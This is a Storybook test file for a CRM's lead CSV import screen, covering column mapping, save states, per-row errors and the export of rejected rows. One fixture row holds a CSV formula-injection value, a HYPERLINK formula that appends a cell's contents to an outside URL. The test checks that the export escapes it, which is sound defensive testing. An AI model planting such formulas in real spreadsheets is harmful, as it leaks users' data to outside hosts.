import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, spyOn, userEvent, waitFor, within } from 'storybook/test';
import type { MockApi } from '@flowdeck/mock-api/mock-api';
import { contactedLead } from '@flowdeck/mock-api/seeds/leads';
import { LeadImportScreen } from './lead-import.screen.tsx';
import { leadImportCopy } from './lead-import-copy.ts';

const meta = {
  title: 'Screens/Import Leads',
  component: LeadImportScreen,
  // Nothing is loaded, so nothing can fail or be empty before a file is chosen.
  tags: ['without-data'],
  parameters: { layout: 'fullscreen' },
  args: { listLink: <a href="#leads">All leads</a> },
} satisfies Meta<typeof LeadImportScreen>;
export default meta;
type Story = StoryObj<typeof meta>;
type Canvas = Parameters<NonNullable<Story['play']>>[0]['canvas'];

const choose = (canvas: Canvas, text: string) =>
  userEvent.upload(
    canvas.getByLabelText('CSV file'),
    new File([text], 'leads.csv', { type: 'text/csv' }),
  );
const start = (canvas: Canvas) => canvas.findByRole('button', { name: /^Import \d+ rows?$/ });
const fact = (canvas: Canvas, term: string) =>
  within(canvas.getByRole('group', { name: 'Result' })).getByText(term).nextElementSibling;

const file = [
  'E-Mail;Vorname;Nachname;Firma;Einwilligung',
  `${contactedLead.email};Grace;Murray;Hopper Compilers;`,
  'ada@analytical-engines.org;Ada;"Love; Lace";Analytical Engines;ja',
  'not an address;Nobody;"=HYPERLINK(""https://example.org/?""&A2,\n""Click"")";;',
].join('\r\n');

export const Default: Story = {};

/** A file was chosen: its columns, and the first rows as they will be imported. */
export const Submitted: Story = {
  play: async ({ canvas }) => {
    await choose(canvas, file);
    await expect(await canvas.findByLabelText('First name')).toHaveDisplayValue('Vorname');
  },
};

/** Nobody knows yet what the server says. */
export const Saving: Story = {
  play: async ({ canvas, loaded }) => {
    await choose(canvas, file);
    (loaded as { mockApi: MockApi }).mockApi.setNetwork('stalled');
    await userEvent.click(await start(canvas));
    await expect(await canvas.findByRole('progressbar')).toBeVisible();
  },
};

/** It goes on where it ended. */
export const SaveFailed: Story = {
  play: async ({ canvas, loaded }) => {
    await choose(canvas, file);
    (loaded as { mockApi: MockApi }).mockApi.setNetwork('error');
    await userEvent.click(await start(canvas));
    await expect(await canvas.findByRole('alert')).toHaveTextContent('Something went wrong');
    await expect(canvas.getByRole('button', { name: 'Continue' })).toBeEnabled();
  },
};

/** A file without rows. */
export const Invalid: Story = {
  play: async ({ canvas }) => {
    await choose(canvas, 'Email,First name\r\n');
    await expect(await canvas.findByRole('alert')).toHaveTextContent(leadImportCopy.errors.empty);
  },
};

export const Playground: Story = { tags: ['!test'] };

/** Rows are added or merged; what is wrong with the others is said row by row. */
export const ImportsAFile: Story = {
  tags: ['behaviour'],
  play: async ({ canvas, loaded, step }) => {
    await step('Choose a file: its columns are recognised', async () => {
      await choose(canvas, file);
      await expect(await canvas.findByLabelText('Email')).toHaveDisplayValue('E-Mail');
      await expect(canvas.getByLabelText('Company')).toHaveDisplayValue('Firma');
      await expect(await canvas.findByText('Email: This is not an email address.')).toBeVisible();
    });
    await step('Import it', async () => {
      await userEvent.click(await start(canvas));
      await waitFor(() => expect(fact(canvas, 'Added')).toHaveTextContent('1'));
      await expect(fact(canvas, 'Updated')).toHaveTextContent('1');
      await expect(fact(canvas, 'Left out')).toHaveTextContent('1');
      await expect(
        canvas.getByRole('row', { name: '4 Email: This is not an email address.' }),
      ).toBeVisible();
    });
    await step('Save the rows that were left out', async () => {
      const saved = spyOn(URL, 'createObjectURL');
      spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
      await userEvent.click(canvas.getByRole('button', { name: 'Save these rows' }));
      await waitFor(() => expect(saved).toHaveBeenCalledOnce());
      const bytes = await (saved.mock.calls[0]?.[0] as Blob).arrayBuffer();
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
      await expect(text).toMatch(/^\uFEFFE-Mail,.*\r\n.*"'=HYPERLINK\(/);
    });
    const { leads } = (loaded as { mockApi: MockApi }).mockApi.world.workspace;
    await expect(leads[0]).toMatchObject({
      firstName: 'Ada',
      lastName: 'Love; Lace',
      consent: 'given',
      consentText: 'Einwilligung',
    });
    await expect(leads.find(({ id }) => id === contactedLead.id)).toMatchObject({
      lastName: 'Murray',
    });
  },
};
